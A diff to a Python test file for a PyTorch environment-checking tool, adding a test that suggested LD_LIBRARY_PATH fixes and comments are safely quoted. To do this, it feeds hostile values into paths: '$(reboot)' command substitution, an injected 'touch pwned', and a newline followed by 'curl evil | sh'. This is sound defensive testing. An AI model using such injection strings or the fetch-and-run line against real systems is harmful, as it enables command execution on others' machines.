@@ -21,7 +21,7 @@ from _rules_helpers import healthy, load
 from test_hostile_escape import SHELL_HOSTILE, _powershell_words
 from torch_envcheck._util import escape
 from torch_envcheck.doctor import report
-from torch_envcheck.commands.advise import advise
+from torch_envcheck.advice.recommend import advise
 from torch_envcheck.commands.pin import lines as pin_lines
 from torch_envcheck.commands.readme_line import line as readme_line
 from torch_envcheck.doctor.render import json_render, markdown, terminal
@@ -239,6 +239,24 @@ def test_ld_library_path_fix_is_quoted():
     fix = [f for f in libraries.ld_library_path(s) if f["code"] == "TE501"][0]["fix"]
     assert shlex.split(fix) == ["export", "LD_LIBRARY_PATH=/opt/$(reboot)/lib:/opt/a b"]
     _check_posix_command(fix, None)
+
+
+def test_search_path_fix_of_a_broken_import_is_quoted():
+    # TE505 (and TE201, which it explains): a folder of the search path breaks `import torch`
+    s = load("ld_library_path_cuda121_breaks_import_torch")
+    s["env"]["LD_LIBRARY_PATH"] = "/usr/local/cuda-12.1/lib64:/opt/$(reboot)/lib;touch pwned:/opt/a b"
+    for f in [f for f in libraries.path_breaks_import(s) if f["code"] == "TE505"] + \
+            [f for f in report(s)["findings"] if f["code"] == "TE201"]:
+        first, check = f["fix"].split("\n")
+        assert shlex.split(first) == ["export", "LD_LIBRARY_PATH=/opt/$(reboot)/lib;touch pwned:/opt/a b"]
+        _check_posix_command(first, None)
+        assert check.endswith("-c \"import torch; print(torch.__version__)\"")
+    # where the variable cannot be rewritten, a comment names the folder: a newline in it cannot end the comment
+    s = load("ld_library_path_cuda121_breaks_import_torch")
+    s["env"]["LD_LIBRARY_PATH"] = None
+    s["libraries"]["entries"][0]["dir"] = "/usr/local/cuda-12.1/lib64\ncurl evil | sh"
+    fix = [f for f in libraries.path_breaks_import(s) if f["code"] == "TE505"][0]["fix"]
+    assert len(fix.splitlines()) == 2 and fix.startswith("# remove ") and "curl evil" in fix.splitlines()[0]
 
 
 def test_extension_fixes_use_no_command_from_the_snapshot():
